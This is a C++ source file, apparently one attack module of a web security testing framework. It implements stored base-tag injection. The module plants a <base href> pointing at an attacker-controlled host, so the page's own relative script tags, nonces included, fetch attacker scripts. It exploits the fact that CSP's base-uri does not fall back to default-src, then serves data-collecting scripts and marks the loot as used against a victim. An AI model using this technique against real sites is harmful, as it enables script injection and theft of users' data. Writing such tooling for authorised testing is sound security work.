// xss-base: leaves a <base> where others read it, which turns the page's relative scripts into the
// attacker's: the page's own element asks for them, nonce and all (CSP3, base-uri, which does not
// follow default-src).
#include "core/attack/every_agent.h"
#include "core/attack/page_script.h"
#include "core/attack/stored_text.h"
#include "core/attack/tags.h"

namespace parapet::attack {
namespace {

class XssBase final : public Agent {
    void run(Target& target) override {
        // Of two <base> the first counts, so it is the host that a policy is likelier to trust.
        OwnHost* evil = sibling_host(target);
        if (evil == nullptr) evil = foreign_host(target);
        if (evil == nullptr || target.victim() == nullptr) return;
        std::string const address = collecting_address(*evil);
        StoredText text(target);
        std::size_t scripts = 0;
        for (std::string const& page : text.pages())
            for (Tag const& tag : tags_in(page)) {
                std::string const source = tag.attribute("src").value_or("");
                if (tag.name != "script" || source.empty() ||
                    source.find("//") != std::string::npos)
                    continue;
                ++scripts;
                std::string const path = source.substr(0, source.find('?'));
                evil->answer((path.starts_with('/') ? "" : "/") + path,
                             {.status = 200,
                              .headers = {{"content-type", "text/javascript"}},
                              .body = taking_script(target, address)});
            }
        target.note(std::to_string(scripts) + " scripts are named by relative addresses.");
        text.leave("<base href=" + in_quotes(address_on(*evil, "")) + ">");
        victim_reads_and_loot_is_used(target);
    }
};

}  // namespace

std::unique_ptr<Agent> make_xss_base() { return std::make_unique<XssBase>(); }

}  // namespace parapet::attack
